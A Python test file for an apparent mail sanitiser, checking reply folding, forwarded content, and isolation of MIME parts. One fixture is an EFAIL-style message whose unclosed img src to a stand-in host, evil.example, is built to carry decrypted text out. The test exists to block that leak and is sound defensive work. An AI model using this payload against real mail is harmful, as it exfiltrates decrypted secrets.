"""What a browser may have of a mail's HTML, and what of it is folded."""

from email.message import EmailMessage

from mailgate.safe_reading import read_safely

EFAIL = b"""\
From: Eve <eve@example.org>
To: support@example.com
Subject: x
Message-ID: <efail@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=B

--B
Content-Type: text/html

<p>Hello</p><img src="http://evil.example/
--B
Content-Type: text/plain

THE-SECRET-THAT-WAS-DECRYPTED
--B
Content-Type: text/html

"><p>Bye</p>
--B--
"""

INNER = "Please cancel my order 512."


def mail(subject: str, plain: str, html: str) -> bytes:
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "Dora <dora@example.net>", "support@example.com", subject
    made["Message-ID"] = "<forward-1@example.net>"
    made.set_content(plain)
    made.add_alternative(html, subtype="html")
    return made.as_bytes()


def test_an_answer_has_its_history_folded() -> None:
    quoted = f'<p>No.</p><div class="gmail_quote"><div class="gmail_attr">On Mon, Pia wrote:</div><blockquote>{INNER}</blockquote></div>'
    safe = read_safely(mail("Re: Order", f"No.\n\nOn Mon, 2 Mar 2026, Pia <pia@example.org> wrote:\n> {INNER}\n", quoted)).safe_html
    assert "<details" in safe.partition(INNER)[0]


def test_what_a_person_forwards_is_not_folded_away() -> None:
    sender, subject, to = "Pia <pia@example.org>", "Order", "dora@example.net"
    plain = f"See below.\n\nFrom: {sender}\nSent: Monday, 2 March 2026 10:00\nTo: {to}\nSubject: {subject}\n\n{INNER}\n"
    rule = "border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"
    fields = (
        f"<b>From:</b> Pia &lt;pia@example.org&gt;<br><b>Sent:</b> Monday, 2 March 2026 10:00<br>"
        f"<b>To:</b> {to}<br><b>Subject:</b> {subject}"
    )
    html = f'<p>See below.</p><div><div style="{rule}"><p>{fields}</p></div></div><p>{INNER}</p>'
    read = read_safely(mail("FW: Order", plain, html))
    assert read.forward is not None
    assert INNER in read.safe_html
    assert "<details" not in read.safe_html


def test_no_part_of_a_mail_ends_up_inside_a_tag_of_another() -> None:
    """H-106: an address that is left open in one part must not swallow the next one and carry it away."""
    read = read_safely(EFAIL)
    assert "evil.example" not in read.safe_html
    assert "data-remote-src" not in read.safe_html
    assert "<pre>THE-SECRET-THAT-WAS-DECRYPTED</pre>" in read.safe_html
